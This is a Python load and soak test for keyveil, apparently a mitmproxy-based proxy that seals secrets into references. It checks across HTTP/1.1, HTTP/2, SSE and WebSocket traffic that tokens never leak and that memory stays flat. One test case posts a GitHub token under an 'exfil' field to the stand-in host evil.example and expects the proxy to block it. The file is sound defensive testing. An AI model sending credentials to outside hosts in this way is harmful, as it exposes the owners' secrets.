"""Load: many concurrent connections and thousands of mixed requests through one
real mitmdump running keyveil, with no leak, no unexpected status and flat memory.

The mix: provider-bound requests carrying values in their bodies (sealed),
bound-host requests carrying references (injected), other-host requests
(forwarded when clean, blocked when they carry a value or a reference),
Server-Sent Events with a value split across events (scrubbed), and WebSocket
round trips (injected one way, scrubbed the other), over HTTP/1.1 and HTTP/2.
Every response is checked as it arrives; afterwards every request the upstream
recorded is checked against the bindings, and the proxy's resident memory,
sampled every second, must not grow over the run.

The full run (200 connections, 20,000 requests) is ``@pytest.mark.soak``
(``make soak``); a small one runs with the normal suite.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import random
import re
import secrets
import statistics
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
import websockets.asyncio.client

from tests import infra
from tests.conftest import keyveil, keyveil_proxy, make_home

REQUEST_TIMEOUT = 60.0
DECOY = "load/decoy"  # registered, bound nowhere: sent often, must arrive nowhere

BOUND = {
    "github/pat": lambda h: h in ("api.github.com", "github.com") or h.endswith(".githubusercontent.com"),
    "anthropic/key": lambda h: h == "api.anthropic.com",
    "gitlab/token": lambda h: h == "gitlab.test.keyveil",
    "ws/token": lambda h: h == "ws.test.keyveil",
    "http/token": lambda h: False,  # bound to https://example.com only; sent here over http alone
    DECOY: lambda h: False,
}


def forms(value: bytes) -> list[bytes]:
    b64 = base64.b64encode(value)
    return [value, b64, b64.rstrip(b"="), base64.urlsafe_b64encode(value).rstrip(b"=")]


def bare_host(authority: str) -> str:
    host = authority.strip().lower()
    if host.count(":") == 1:
        host = host.rsplit(":", 1)[0]
    return host.rstrip(".")


class Unexpected(Exception):
    """A response that is not what the request should get (status, block code, content)."""


# --- memory -----------------------------------------------------------------------------------


class RssSampler:
    """VmRSS of one process, once per INTERVAL, in a thread."""

    def __init__(self, pid: int, interval: float = 1.0) -> None:
        self.pid, self.interval = pid, interval
        self.samples: list[tuple[float, int]] = []  # (seconds since start, KiB)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._t0 = time.monotonic()

    def rss_kib(self) -> int:
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
        raise RuntimeError("no VmRSS")

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                self.samples.append((time.monotonic() - self._t0, self.rss_kib()))
            except (OSError, RuntimeError):
                return
            self._stop.wait(self.interval)

    def __enter__(self) -> RssSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(5)

    def summary(self, warmup_fraction: float = 0.2) -> dict:
        kib = [k for _, k in self.samples]
        steady = kib[int(len(kib) * warmup_fraction) :]
        q = max(1, len(steady) // 4)
        return {
            "samples": len(kib),
            "first_mib": round(kib[0] / 1024, 1) if kib else None,
            "peak_mib": round(max(kib) / 1024, 1) if kib else None,
            "last_mib": round(kib[-1] / 1024, 1) if kib else None,
            "first_quarter_median_mib": round(statistics.median(steady[:q]) / 1024, 1) if steady else None,
            "last_quarter_median_mib": round(statistics.median(steady[-q:]) / 1024, 1) if steady else None,
            "steady_samples": len(steady),
        }


# --- the traffic -----------------------------------------------------------------------------------


@dataclass
class Load:
    proxy: infra.ProxyProcess
    values: dict[str, bytes]
    total: int
    issued: int = 0
    forwarded: int = 0  # requests that must reach the upstream (HTTP requests and WebSocket upgrades)
    kinds: Counter = field(default_factory=Counter)
    errors: list[str] = field(default_factory=list)
    bad_paths: set[str] = field(default_factory=set)

    def check_clean(self, kind: str, data: bytes) -> None:
        for name, value in self.values.items():
            for f in forms(value):
                if f in data:
                    raise Unexpected(f"{kind}: a form of {name} reached the client")

    def take(self, n: int) -> int:
        n = min(n, self.total - self.issued)
        self.issued += n
        return n


def expect(kind: str, r: httpx.Response, status: int, code: str | None = None) -> None:
    got = r.headers.get("x-keyveil-block")
    if r.status_code != status or got != code:
        raise Unexpected(f"{kind}: expected {status} {code}, got {r.status_code} {got}: {r.text[:200]}")


def response_bytes(r: httpx.Response) -> bytes:
    return b"".join(k + b": " + v + b"\n" for k, v in r.headers.raw) + r.content


async def provider(load: Load, c: httpx.AsyncClient, i: int, rng: random.Random) -> None:
    v = load.values
    host = "api.anthropic.com" if i % 3 else "api.openai.com"
    text = (
        f"env: GITHUB_TOKEN={v['github/pat'].decode()} DECOY={v[DECOY].decode()} "
        f"basic {base64.b64encode(b'me:' + v['gitlab/token']).decode()} n={i}"
    )
    doc = {"model": "m", "messages": [{"role": "user", "content": text}], "esc": v["gitlab/token"].decode().replace("/", "\\/")}
    body = json.dumps(doc).encode()
    headers = {"content-type": "application/json"}
    if host == "api.anthropic.com":
        headers["x-api-key"] = "{{secret:anthropic/key}}"
    if i % 4 == 0:
        body = gzip.compress(body, mtime=0)
        headers["content-encoding"] = "gzip"
    r = await c.post(f"https://{host}/v1/messages", content=body, headers=headers)
    expect("provider", r, 200)
    load.forwarded += 1
    load.check_clean("provider", response_bytes(r))
    echoed = r.json()
    sent = echoed["body"].encode("latin-1")
    if i % 4 == 0:
        sent = gzip.decompress(sent)
    if b"{{secret:github/pat}}" not in sent or b"{{secret:load/decoy}}" not in sent:
        raise Unexpected("provider: the values were not sealed into references")
    if host == "api.anthropic.com" and echoed["headers"].get("x-api-key") != "{{secret:anthropic/key}}":
        raise Unexpected("provider: the injected key was not scrubbed from the echo")


async def provider_large(load: Load, c: httpx.AsyncClient, i: int, rng: random.Random) -> None:
    """Over max_body_bytes: streamed through the stream sealer."""
    pat = load.values["github/pat"]
    filler = b"x" * (1 << 20)
    body = filler[: 65536 - 9] + pat + filler[:200_000] + pat
    r = await c.post("https://api.openai.com/v1/files", content=body, headers={"content-type": "application/octet-stream"})
    expect("provider_large", r, 200)
    load.forwarded += 1
    load.check_clean("provider_large", response_bytes(r))


async def bound(load: Load, c: httpx.AsyncClient, i: int, rng: random.Random) -> None:
    if i % 2:
        r = await c.get(f"https://api.github.com/echo?n={i}", headers={"authorization": "Bearer {{secret:github/pat}}"})
        expect("bound", r, 200)
        if r.json()["headers"]["authorization"] != "Bearer {{secret:github/pat}}":
            raise Unexpected("bound: the echoed Authorization was not scrubbed")
    else:
        ref = "{{secret:gitlab/token}}"
        r = await c.post(
            f"https://gitlab.test.keyveil/echo/{quote(ref, safe='')}",
            params={"private_token": ref, "n": str(i)},
            json={"token": ref},
        )
        expect("bound", r, 200)
        if json.loads(r.json()["body"]) != {"token": ref}:
            raise Unexpected("bound: the echoed body was not scrubbed")
    load.forwarded += 1
    load.check_clean("bound", response_bytes(r))


async def other(load: Load, c: httpx.AsyncClient, i: int, rng: random.Random) -> None:
    v = load.values
    case = i % 5
    if case == 0:
        r = await c.get(f"https://evil.example/echo?n={i}", headers={"x-note": "{{secret:nope/unknown}}"})
        expect("other", r, 200)
        load.forwarded += 1
    elif case == 1:
        path = f"/blocked/plaintext/{i}"
        load.bad_paths.add(path)
        r = await c.post(f"https://evil.example{path}", json={"exfil": v["github/pat"].decode(), "d": v[DECOY].decode()})
        expect("other", r, 403, "plaintext_egress")
    elif case == 2:
        path = f"/blocked/reference/{i}"
        load.bad_paths.add(path)
        r = await c.get(f"https://api.gitlab.com{path}", headers={"authorization": "Bearer {{secret:github/pat}}"})
        expect("other", r, 403, "unbound_reference")
    elif case == 3:
        path = f"/blocked/http/{i}"
        load.bad_paths.add(path)
        r = await c.get(f"http://example.com{path}", headers={"authorization": "token {{secret:http/token}}"})
        expect("other", r, 403, "insecure_scheme")
    else:
        r = await c.get(f"http://example.com/echo?n={i}")
        expect("other", r, 200)
        load.forwarded += 1
    load.check_clean("other", response_bytes(r))


SSE_PATH = "/sse-load"


def sse_events(pat: bytes) -> list[bytes]:
    return [b'data: {"t": "one"}\n\n', b'data: {"t": "leak ' + pat[:9], pat[9:] + b'"}\n\n', b"data: [DONE]\n\n"]


SSE_EXPECTED = b'data: {"t": "one"}\n\ndata: {"t": "leak {{secret:github/pat}}"}\n\ndata: [DONE]\n\n'


async def sse(load: Load, c: httpx.AsyncClient, i: int, rng: random.Random) -> None:
    body = b""
    async with c.stream("GET", f"https://api.github.com{SSE_PATH}", headers={"authorization": "Bearer {{secret:github/pat}}"}) as r:
        if r.status_code != 200:
            raise Unexpected(f"sse: status {r.status_code}")
        async for chunk in r.aiter_raw():
            body += chunk
    load.forwarded += 1
    if body != SSE_EXPECTED:
        load.check_clean("sse", body)
        raise Unexpected(f"sse: unexpected body {body[:120]!r}")


async def websocket_session(load: Load, ssl_ctx, rounds: int) -> None:
    tok = load.values["ws/token"].decode()
    async with websockets.asyncio.client.connect(
        "wss://ws.test.keyveil/ws", proxy=load.proxy.url, ssl=ssl_ctx, open_timeout=60, close_timeout=10
    ) as ws:
        load.forwarded += 1  # the upgrade request
        for k in range(rounds):
            await ws.send(json.dumps({"auth": "{{secret:ws/token}}", "k": k}))
            echo = await asyncio.wait_for(ws.recv(), 60)
            if tok in echo or "{{secret:ws/token}}" not in echo:
                raise Unexpected("websocket: the echo was not scrubbed")
            load.check_clean("websocket", echo.encode())


KINDS = [(30, "provider", provider), (30, "bound", bound), (20, "other", other), (8, "sse", sse), (10, "websocket", None), (2, "provider_large", provider_large)]


async def worker(load: Load, w: int, seed: int) -> None:
    rng = random.Random(seed * 1000 + w)
    http2 = w % 2 == 1
    verify = infra.client_ssl_context(load.proxy.ca_cert, h2_first=http2)
    ws_ssl = infra.client_ssl_context(load.proxy.ca_cert)
    limits = httpx.Limits(max_connections=1, max_keepalive_connections=1)
    weights = [k[0] for k in KINDS]
    async with httpx.AsyncClient(proxy=load.proxy.url, verify=verify, http2=http2, trust_env=False, timeout=REQUEST_TIMEOUT, limits=limits) as c:
        while load.issued < load.total:
            _, kind, fn = rng.choices(KINDS, weights)[0]
            n = load.take(rng.randint(3, 12) if kind != "provider_large" else 1)
            if not n:
                break
            load.kinds[kind] += n
            try:
                if fn is None:
                    await websocket_session(load, ws_ssl, n)
                else:
                    for _ in range(n):
                        await fn(load, c, load.issued + rng.randrange(1 << 20), rng)
            except Unexpected as e:
                load.errors.append(f"{e} (worker {w}, {'h2' if http2 else 'h1'})")
            except Exception as e:  # noqa: BLE001 - every transport error is unexpected here
                url = e.request.url if isinstance(e, httpx.RequestError) else ""
                load.errors.append(f"{kind} (worker {w}, {'h2' if http2 else 'h1'}) {url}: {type(e).__name__}: {e!r}")


async def drive(load: Load, connections: int, seed: int) -> None:
    await asyncio.gather(*(worker(load, w, seed) for w in range(connections)))


# --- fixtures and checks ---------------------------------------------------------------------------

def load_proxy(up, kv, work: Path) -> infra.ProxyProcess:
    return keyveil_proxy(up, work, kv)


@pytest.fixture(scope="module")
def lup():
    with infra.Upstream(infra.make_ca()) as up:
        yield up


@pytest.fixture(scope="module")
def lkv(tmp_path_factory):
    setup = make_home(tmp_path_factory.mktemp("load"))
    decoy = b"dc_" + secrets.token_urlsafe(24).encode()
    r = keyveil(setup.env, "secret", "set", DECOY, stdin=decoy)
    assert r.returncode == 0, r.stderr
    setup.values[DECOY] = decoy
    return setup


def run_load(lup, lkv, tmp_path, connections: int, total: int, seed: int) -> dict:
    lup.reset()
    lup.set_sse(sse_events(lkv.values["github/pat"]), delay_between_chunks=0.01, path=SSE_PATH)
    with load_proxy(lup, lkv, tmp_path / "proxy") as proxy:
        load = Load(proxy, lkv.values, total)
        with RssSampler(proxy.process.pid) as rss:
            t0 = time.monotonic()
            asyncio.run(drive(load, connections, seed))
            elapsed = time.monotonic() - t0
        alive = proxy.returncode is None
        time.sleep(0.5)
    report = {
        "connections": connections,
        "requests": load.issued,
        "seconds": round(elapsed, 1),
        "requests_per_second": round(load.issued / elapsed, 1),
        "kinds": dict(load.kinds),
        "errors": len(load.errors),
        "memory": rss.summary(),
        "rss_series_mib": [round(k / 1024, 1) for _, k in rss.samples],
    }
    print("\nLOAD " + json.dumps(report))
    assert alive, "mitmdump exited during the run"
    assert load.errors == [], f"{len(load.errors)} unexpected responses, first: {load.errors[:10]}"
    assert load.issued == total

    # What the upstream saw: every forwarded request once, no blocked one, no value off its binding.
    requests = lup.requests
    assert len(requests) == load.forwarded, (len(requests), load.forwarded)
    assert not [r.path for r in requests if r.path.split("?")[0] in load.bad_paths]
    hits = Counter()
    for rec in requests:
        host = bare_host(rec.host)
        data = rec.path.encode("latin-1") + b"".join(k + b": " + v + b"\n" for k, v in rec.headers) + rec.body
        if rec.header("content-encoding") == "gzip":
            data += gzip.decompress(rec.body)
        for name, value in lkv.values.items():
            if not BOUND[name](host) and any(f in data for f in forms(value)):
                hits[(host, name)] += 1
    for msg in lup.ws_messages:
        if msg.direction == "client":
            data = msg.data.encode() if isinstance(msg.data, str) else msg.data
            for name, value in lkv.values.items():
                if not BOUND[name](bare_host(msg.host)) and any(f in data for f in forms(value)):
                    hits[("ws:" + msg.host, name)] += 1
    assert not hits, f"values sent off their bindings: {dict(hits)}"
    wire = lup.all_bytes()
    for name in (DECOY, "http/token"):
        for f in forms(lkv.values[name]):
            assert f not in wire, f"{name} reached the upstream"
    # and the injections happened where bound
    pat = lkv.values["github/pat"].decode()
    github = [r for r in requests if bare_host(r.host) == "api.github.com"]
    assert github and all(r.header("authorization") == "Bearer " + pat for r in github)
    ws_in = [m.data for m in lup.ws_messages if m.direction == "client"]
    assert ws_in and all(lkv.values["ws/token"].decode() in m for m in ws_in)
    # I5: the console
    out = proxy.output().encode()
    for value in lkv.values.values():
        for f in forms(value):
            assert f not in out
    return report


def assert_memory_flat(report: dict, factor: float = 1.5) -> None:
    mem = report["memory"]
    assert mem["steady_samples"] >= 8, f"too few memory samples to judge: {mem}"
    assert mem["last_quarter_median_mib"] <= factor * mem["first_quarter_median_mib"], mem


@pytest.mark.timeout(120)
def test_http1_keep_alive_survives_the_proxy(lup, lkv, tmp_path):
    """Under load every new connection costs a CONNECT and two TLS handshakes:
    a keep-alive HTTP/1.1 client must be able to send several requests on one.
    (keyveil streams every response and drops its Content-Length; without
    chunked framing in its place the proxy must close the connection to end
    the body, and the client cannot tell a cut body from a whole one.)"""
    lup.reset()
    with load_proxy(lup, lkv, tmp_path / "proxy") as proxy:
        verify = infra.client_ssl_context(proxy.ca_cert)
        with httpx.Client(proxy=proxy.url, verify=verify, trust_env=False, timeout=20) as c:
            for _ in range(4):
                r = c.get("https://api.github.com/echo", headers={"authorization": "Bearer {{secret:github/pat}}"})
                assert r.status_code == 200
                assert "content-length" in r.headers or r.headers.get("transfer-encoding") == "chunked", r.headers
        time.sleep(0.3)
        # the client address of each flow, as mitmdump prints it
        clients = set(re.findall(r"^(127\.0\.0\.1:\d+): GET https://api\.github\.com/echo", proxy.output(), re.M))
    assert len(lup.requests) == 4
    assert len(clients) == 1, f"{len(clients)} client connections for 4 keep-alive requests"


@pytest.mark.timeout(600)
def test_load_small(lup, lkv, tmp_path):
    """50 connections, 1,000 mixed requests: no leak, no unexpected response."""
    report = run_load(lup, lkv, tmp_path, connections=50, total=1_000, seed=1)
    # far too short to judge growth; only a ceiling that a per-request leak of any size would hit
    assert report["memory"]["peak_mib"] < 1024, report["memory"]


@pytest.mark.soak
@pytest.mark.timeout(3600)
def test_load_soak(lup, lkv, tmp_path):
    """200 connections, 20,000 mixed requests: no leak, no unexpected response, flat memory."""
    report = run_load(lup, lkv, tmp_path, connections=200, total=20_000, seed=2)
    assert_memory_flat(report)
